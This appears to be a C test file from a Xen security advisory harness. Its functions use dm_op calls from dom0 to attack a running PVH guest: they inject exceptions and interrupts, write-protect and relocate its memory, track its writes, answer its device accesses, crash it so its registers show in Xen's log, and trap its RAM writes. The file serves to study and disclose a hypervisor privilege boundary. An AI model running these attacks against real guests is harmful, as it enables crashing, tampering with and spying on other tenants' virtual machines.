/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: dom0 as a device model
 *
 * Claim:  dom0 raises exceptions and interrupts in a running guest, moves and
 *         write-protects its memory, sees which pages it writes, and answers
 *         its accesses to devices.
 * Method: the operations of HYPERVISOR_dm_op, which are meant for QEMU; the
 *         guest need not have been made for one.
 * Stock:  all of them work on a PVH guest.
 */
#include <sys/mman.h>

#include <xenevtchn.h>

#include "../attack.h"

#include <xen/hvm/ioreq.h>

#define VECTOR_GP 13
#define VECTOR_MSI 0x51
#define ANSWER 0x12345678

static enum verdict inject_event(struct victim *v)
{
    struct xen_dm_op op = {
        .op = XEN_DMOP_inject_event,
        .u.inject_event =
            {
                .vector = VECTOR_GP,
                .type = XEN_DMOP_EVENT_hw_exc,
                .error_code = 0,
            },
    };
    long rc = dm_op(v->id, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "VECTOR 13");
}
ATTACK(inject_event, .needs = SHARED);

/* Before the guest runs: it comes first, and there is nobody to take it. */
static enum verdict inject_event_early(struct victim *v)
{
    struct xen_dm_op op = {
        .op = XEN_DMOP_inject_event,
        .u.inject_event = {.vector = VECTOR_GP, .type = XEN_DMOP_EVENT_hw_exc},
    };

    if ( dm_op(v->id, &op) )
        return verdict(FAILURE, "refused");
    return victim_starts_dead(v);
}
ATTACK(inject_event_early, .needs = BUILT);

static enum verdict inject_msi(struct victim *v)
{
    struct xen_dm_op op = {
        .op = XEN_DMOP_inject_msi,
        .u.inject_msi = {.addr = 0xfee00000, .data = VECTOR_MSI},
    };
    long rc = dm_op(v->id, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "VECTOR 81");
}
ATTACK(inject_msi, .needs = SHARED);

static enum verdict set_mem_type(struct victim *v)
{
    struct xen_dm_op op = {
        .op = XEN_DMOP_set_mem_type,
        .u.set_mem_type =
            {
                .mem_type = HVMMEM_ram_ro,
                .nr = 1,
                .first_pfn = VICTIM_COUNTER / PAGE,
            },
    };
    long rc = dm_op(v->id, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "COUNTER");
}
ATTACK(set_mem_type, .needs = SHARED);

static enum verdict relocate_memory(struct victim *v)
{
    struct xen_dm_op op = {
        .op = XEN_DMOP_relocate_memory,
        .u.relocate_memory =
            {
                .size = 1,
                .src_gfn = SPARE_GFN,
                .dst_gfn = LINES_GFN,
            },
    };
    long rc = dm_op(v->id, &op);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return victim_complains(v, "BAD");
}
ATTACK(relocate_memory, .needs = SHARED);

/* Like hypercall dm_op, with a second buffer. */
static long dm_op_buffer(uint32_t domid, struct xen_dm_op *op, void *second,
                         size_t size)
{
    struct xen_dm_op_buf *buf = xen_buffer(2 * sizeof(*buf));
    struct xen_dm_op *copy = xen_buffer(sizeof(*copy));

    *copy = *op;
    set_xen_guest_handle_raw(buf[0].h, (void *)copy);
    buf[0].size = sizeof(*copy);
    set_xen_guest_handle_raw(buf[1].h, second);
    buf[1].size = size;
    return hypercall(__HYPERVISOR_dm_op, domid, 2, (unsigned long)buf, 0);
}

/* The pages around the counter: the victim writes only one of them. */
static enum verdict track_dirty_vram(struct victim *v)
{
    struct xen_dm_op op = {
        .op = XEN_DMOP_track_dirty_vram,
        .u.track_dirty_vram =
            {
                .nr = 8,
                .first_pfn = VICTIM_COUNTER / PAGE - 4,
            },
    };
    uint8_t *map = xen_buffer(PAGE);
    long rc = dm_op_buffer(v->id, &op, map, 1);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    msleep(500);
    rc = dm_op_buffer(v->id, &op, map, 1);
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return verdict(map[0] == 0x10 ? SUCCESS : FAILURE,
                   "pages written: %#x, right is 0x10", map[0]);
}
ATTACK(track_dirty_vram, .needs = SHARED);

/* With the log of writes on, as while migrating: a write that never was. */
static enum verdict modified_memory(struct victim *v)
{
    struct xen_dm_op_modified_memory_extent *extent =
        xen_buffer(sizeof(*extent));
    struct xen_dm_op op = {
        .op = XEN_DMOP_modified_memory,
        .u.modified_memory.nr_extents = 1,
    };
    uint8_t *map = xen_buffer(PAGE);
    struct xen_domctl log = {0};
    long rc;

    log.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_ENABLE_LOGDIRTY;
    rc = domctl(v->id, XEN_DOMCTL_shadow_op, &log);
    if ( rc )
        return verdict(ERROR, "no log of writes: %ld", rc);
    extent->first_pfn = SPARE_GFN;
    extent->nr = 1;
    rc = dm_op_buffer(v->id, &op, extent, sizeof(*extent));

    log.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_PEEK;
    log.u.shadow_op.pages = SPARE_GFN + 64;
    set_xen_guest_handle_raw(log.u.shadow_op.dirty_bitmap, map);
    domctl(v->id, XEN_DOMCTL_shadow_op, &log);
    log.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_OFF;
    domctl(v->id, XEN_DOMCTL_shadow_op, &log);
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    return verdict(map[SPARE_GFN / 8] & 1 ? SUCCESS : FAILURE,
                   "page of nobody's marked as written: %#x",
                   map[SPARE_GFN / 8]);
}
ATTACK(modified_memory, .needs = SHARED);

static long new_server(struct victim *v, uint16_t *id)
{
    struct xen_dm_op op = {.op = XEN_DMOP_create_ioreq_server};
    long rc = dm_op(v->id, &op);

    *id = op.u.create_ioreq_server.id;
    return rc;
}

static long server_range(struct victim *v, uint16_t id)
{
    struct xen_dm_op range = {
        .op = XEN_DMOP_map_io_range_to_ioreq_server,
        .u.map_io_range_to_ioreq_server =
            {
                .id = id,
                .type = XEN_DMOP_IO_RANGE_MEMORY,
                .start = VICTIM_MMIO,
                .end = VICTIM_MMIO + PAGE - 1,
            },
    };

    return dm_op(v->id, &range);
}

static long server_enable(struct victim *v, uint16_t id)
{
    struct xen_dm_op enable = {
        .op = XEN_DMOP_set_ioreq_server_state,
        .u.set_ioreq_server_state = {.id = id, .enabled = 1},
    };

    return dm_op(v->id, &enable);
}

/*
 * Answers requests for some seconds, in the state STATE, with ANSWER. *WRITTEN
 * is what has been written to the victim's counter, if anything was.
 */
static unsigned int serve(struct victim *v, shared_iopage_t *page,
                          unsigned int state, uint64_t *written)
{
    ioreq_t *req = &page->vcpu_ioreq[0];
    xenevtchn_handle *channel = xenevtchn_open(NULL, 0);
    int port = xenevtchn_bind_interdomain(channel, v->id, req->vp_eport);
    unsigned int i, answers = 0;
    unsigned int enough = state == STATE_IORESP_READY ? 4 : 1;

    for ( i = 0; port >= 0 && i < 3000 && answers < enough; i++, msleep(1) )
        if ( req->state == STATE_IOREQ_READY )
        {
            if ( req->dir == IOREQ_READ )
                req->data = ANSWER;
            else if ( req->addr / PAGE == VICTIM_COUNTER / PAGE )
                *written = req->data;
            __sync_synchronize();
            req->state = state;
            xenevtchn_notify(channel, port);
            answers++;
        }
    xenevtchn_close(channel);
    return answers;
}

static shared_iopage_t *requests(struct victim *v, uint16_t id)
{
    void *page = NULL;

    xenforeignmemory_map_resource(fmem, v->id, XENMEM_resource_ioreq_server,
                                  id,
                                  XENMEM_resource_ioreq_server_frame_ioreq(0),
                                  1, &page, PROT_READ | PROT_WRITE, 0);
    return page;
}

/* 0 when at least one access of the guest was answered. */
static int ioreq_server(struct victim *v, unsigned int state)
{
    uint64_t written;
    shared_iopage_t *page;
    unsigned int answers;
    uint16_t id;
    long rc = new_server(v, &id);

    if ( rc || (rc = server_range(v, id)) )
    {
        verdict(FAILURE, "refused: %ld", rc);
        return -1;
    }
    page = requests(v, id);
    if ( !page )
    {
        verdict(FAILURE, "no page of requests");
        return -1;
    }
    rc = server_enable(v, id);
    answers = serve(v, page, state, &written);
    verdict(FAILURE, "%u accesses answered: %ld", answers, rc);
    return answers ? 0 : -1;
}

static enum verdict ioreq_answer(struct victim *v)
{
    if ( ioreq_server(v, STATE_IORESP_READY) )
        return FAILURE;
    return victim_says(v, "MMIO 305419896", 5)
               ? verdict(SUCCESS, "the guest reads what dom0 answers")
               : verdict(FAILURE, "the guest does not read the answer");
}
ATTACK(ioreq_answer, .needs = SHARED);

/*
 * Claim: a device model that answers nonsense has Xen crash the guest and
 * print its registers and stack, for dom0 to read.
 */
static enum verdict ioreq_crash_log(struct victim *v)
{
    unsigned int from = log_end();

    if ( ioreq_server(v, 14) )
        return FAILURE;
    msleep(1000);
    return log_count(from, "CR0: ") || log_count(from, "cr0: ")
               ? verdict(SUCCESS, "the guest's registers are in Xen's log")
               : verdict(FAILURE, "no registers in Xen's log");
}
ATTACK(ioreq_crash_log, .needs = SHARED);

static long trap_writes(struct victim *v, uint16_t id)
{
    struct xen_dm_op map = {
        .op = XEN_DMOP_map_mem_type_to_ioreq_server,
        .u.map_mem_type_to_ioreq_server =
            {
                .id = id,
                .type = HVMMEM_ioreq_server,
                .flags = XEN_DMOP_IOREQ_MEM_ACCESS_WRITE,
            },
    };
    struct xen_dm_op set = {
        .op = XEN_DMOP_set_mem_type,
        .u.set_mem_type =
            {
                .mem_type = HVMMEM_ioreq_server,
                .nr = 1,
                .first_pfn = VICTIM_COUNTER / PAGE,
            },
    };
    long rc = dm_op(v->id, &map);

    return rc ? rc : dm_op(v->id, &set);
}

/* Claim: dom0 gets what a guest writes to a page of its RAM. */
static enum verdict ioreq_write_trap(struct victim *v)
{
    shared_iopage_t *page;
    uint64_t written = 0;
    uint16_t id;
    long rc = new_server(v, &id);

    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    page = requests(v, id);
    if ( !page )
        return verdict(FAILURE, "no page of requests");
    rc = server_enable(v, id);
    if ( !rc )
        rc = trap_writes(v, id);
    if ( rc )
        return verdict(FAILURE, "refused: %ld", rc);
    serve(v, page, STATE_IORESP_READY, &written);
    return verdict(written ? SUCCESS : FAILURE, "the guest has written %lu",
                   (unsigned long)written);
}
ATTACK(ioreq_write_trap, .needs = SHARED);
